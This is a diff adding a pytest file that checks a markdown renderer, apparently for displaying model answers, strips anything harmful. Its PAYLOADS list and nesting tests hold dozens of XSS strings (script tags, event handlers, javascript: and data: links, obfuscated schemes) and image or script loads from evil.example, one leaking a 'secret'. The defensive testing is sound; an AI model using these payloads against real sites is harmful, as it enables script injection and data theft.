@@ -1,0 +1,251 @@
+"""What a model writes cannot harm whoever reads it."""
+
+from html.parser import HTMLParser
+from urllib.parse import urlsplit
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from arena.markdown import LONGEST, MOST_HIGHLIGHTED, TAGS, render
+
+ALLOWED = {("a", "href"), ("a", "title"), ("a", "rel"), ("code", "class"), ("span", "class"), ("ol", "start")}
+
+
+class Found(HTMLParser):
+    """The elements that a browser would make of some HTML, its text, and whether all were closed in order."""
+
+    def __init__(self, html):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.attributes, self.text, self.open, self.others = set(), [], "", [], []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.add(tag)
+        self.attributes += [(tag, name, value) for name, value in attrs]
+        if tag not in ("br", "hr"):
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        assert self.open.pop() == tag
+
+    def handle_data(self, data):
+        self.text += data
+
+    def handle_comment(self, data):
+        self.others.append(data)
+
+    handle_decl = handle_pi = unknown_decl = handle_comment
+
+
+def assert_harmless(html):
+    found = Found(html)
+    assert found.tags <= TAGS
+    assert {(tag, name) for tag, name, _ in found.attributes} <= ALLOWED
+    for tag, name, value in found.attributes:
+        if name == "href":
+            address = "".join(value.split()).lower()
+            assert urlsplit(address).scheme in ("http", "https", "mailto", ""), value
+            assert not address.startswith(("javascript", "data", "vbscript"))
+        if (tag, name) == ("a", "rel"):
+            assert value == "noopener noreferrer nofollow ugc"
+    assert found.others == found.open == []
+    return found
+
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    '<img src="x" onerror="alert(1)"',
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "<object data=javascript:alert(1)>",
+    "<embed src=data:text/html,x>",
+    "<base href=https://evil.example/>",
+    "<meta http-equiv=refresh content=0;url=https://evil.example>",
+    "<link rel=stylesheet href=https://evil.example/x.css>",
+    "<style>@import 'https://evil.example/x.css';</style>",
+    "<form action=https://evil.example><input name=x></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<div style='background:url(https://evil.example/x)'>x</div>",
+    "<p id=verdict class=verdict>x</p>",
+    "<a href=javascript:alert(1)>x</a>",
+    "<!-- <script>alert(1)</script> -->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?php echo 1 ?>",
+    "<!DOCTYPE html>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea><script>alert(1)</script></textarea>",
+    "</p></div></main><script>alert(1)</script>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](java\tscript:alert(1))",
+    "[x](<java&#10;script:alert(1)>)",
+    "[x](&#106;avascript:alert(1))",
+    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
+    "[x](\x01javascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
+    "[x](file:///etc/passwd)",
+    "[x](javascript://https://a.example/%0aalert(1))",
+    "[x](https://a.example 'onmouseover=alert(1)')",
+    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
+    '[x](https://a.example"onmouseover="alert(1))',
+    "[x][y]\n\n[y]: javascript:alert(1)",
+    "[y]: <javascript:alert(1)> 'x'\n\n[y]",
+    "<javascript:alert(1)>",
+    "<https://a.example/\"onmouseover=alert(1)>",
+    "![x](https://evil.example/?q=secret)",
+    "![x](data:image/png;base64,AAAA)",
+    "![x][y]\n\n[y]: https://evil.example/x.png",
+    "[![x](https://evil.example/x.png)](javascript:alert(1))",
+    "![`<img src=x onerror=alert(1)>`](x)",
+    "**[x](javascript:alert(1))**",
+    "> # [x](javascript:alert(1))\n> <img src=x onerror=alert(1)>",
+    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "| a |\n|:-:|\n| b |",
+    "`<script>alert(1)</script>`",
+    "```\n<script>alert(1)</script>\n```",
+    "```html\n<script>alert(1)</script>\n```",
+    '```" onmouseover="alert(1)\nx\n```',
+    "```<img src=x onerror=alert(1)>\nx\n```",
+    "    <script>alert(1)</script>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\<script>alert(1)</script>",
+    "<\x00script>alert(1)</script>",
+    "<script\x0c>alert(1)</script\x0c>",
+    "\u202e<script>alert(1)</script>",
+    "<ſcript>alert(1)</ſcript>",
+    "<script>alert(1)",
+    "<" * 100 + "script>",
+    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
+    "$\\href{javascript:alert(1)}{x}$",
+    "<a\nhref\n=\njavascript:alert(1)>x</a>",
+]
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_render_leaves_nothing_that_could_do_harm(payload):
+    assert_harmless(render(payload))
+
+
+def nested(opening, closing="", depth=10_000):
+    return opening * depth + "<script>alert(1)</script>" + closing * depth
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        nested("> "),
+        nested("- "),
+        nested("1. "),
+        nested("> - "),
+        nested("**", "**"),
+        nested("_a", "_"),
+        nested("[", "](javascript:alert(1))", 2_000),
+        nested("![", "](x)", 5_000),
+        nested("<b>", "</b>", 5_000),
+        nested("(", ")"),
+        "\n".join(" " * depth + "- x" for depth in range(300)),
+        "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "x\n" * 20,
+        "```\n" * 10_000,
+        "`" * 30_000,
+        "<" * 30_000,
+        "&" * 30_000,
+        "[a]: b\n" * 5_000,
+    ],
+    ids=lambda text: repr(text[:9]),
+)
+def test_render_survives_nesting_without_end(text):
+    assert_harmless(render(text))
+
+
+@given(st.text(alphabet="<>&\"'`*_[]()!#-|~:\\/=\n \tascript:dtx1", max_size=200))
+def test_render_makes_only_allowed_elements_of_any_text(text):
+    assert_harmless(render(text))
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("Hello *there*, **you**", "<p>Hello <em>there</em>, <strong>you</strong></p>\n"),
+        ("~~no~~", "<p><s>no</s></p>\n"),
+        ("one  \ntwo", "<p>one<br>\ntwo</p>\n"),
+        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
+        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n'),
+        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>\n"),
+        ("a\n\n---\n\nb", "<p>a</p>\n<hr>\n<p>b</p>\n"),
+        ("`x < y`", "<p><code>x &lt; y</code></p>\n"),
+        ("| a | b |\n|---|---|\n| 1 | 2 |", None),
+        ("", ""),
+    ],
+)
+def test_render_shows_markdown(text, html):
+    rendered = render(text)
+
+    assert html is None or rendered == html
+    if html is None:
+        assert {"table", "thead", "tbody", "tr", "th", "td"} <= Found(rendered).tags
+
+
+@pytest.mark.parametrize(("level", "tag"), [(1, "h3"), (2, "h4"), (3, "h5"), (4, "h6"), (5, "h6"), (6, "h6")])
+def test_render_puts_headings_below_those_of_the_page(level, tag):
+    assert render(f"{'#' * level} Title") == f"<{tag}>Title</{tag}>\n"
+
+
+@pytest.mark.parametrize("address", ["https://a.example/x?y=1", "http://a.example", "mailto:a@a.example"])
+def test_render_keeps_links_that_lead_out_without_a_trace(address):
+    assert render(f"[x]({address})") == f'<p><a href="{address}" rel="noopener noreferrer nofollow ugc">x</a></p>\n'
+
+
+def test_render_shows_an_image_as_a_link_that_nobody_follows_by_itself():
+    found = Found(render("![chart](https://a.example/x.png)"))
+
+    assert found.tags == {"p", "a"}
+
+
+def test_render_colours_code_by_classes_alone():
+    html = render("```python\ndef f(): pass\n```")
+
+    assert '<code class="language-python">' in html
+    assert '<span class="k">def</span>' in html
+
+
+@pytest.mark.parametrize("language", ["", "nosuchlanguage", "python3.99 title=x"])
+def test_render_leaves_code_of_unknown_languages_as_it_is(language):
+    found = assert_harmless(render(f"```{language}\nif x < 1: pass\n```"))
+
+    assert found.text == "if x < 1: pass\n\n" or found.text == "if x < 1: pass\n"
+
+
+def test_render_leaves_much_code_uncoloured():
+    code = "a " * (MOST_HIGHLIGHTED // 2 + 10)
+
+    found = assert_harmless(render(f"```java\n{code}\n```"))
+
+    assert "span" not in found.tags
+    assert found.text.strip() == code.strip()
+    assert "span" in Found(render("```java\nint a;\n```")).tags
+
+
+def test_render_shows_an_answer_too_long_to_be_parsed_as_it_is():
+    text = "<script>*a*</script>" * (LONGEST // 20 + 1)
+
+    html = render(text)
+
+    assert_harmless(html)
+    assert Found(html).tags == {"pre"}
+    assert Found(html).text == text
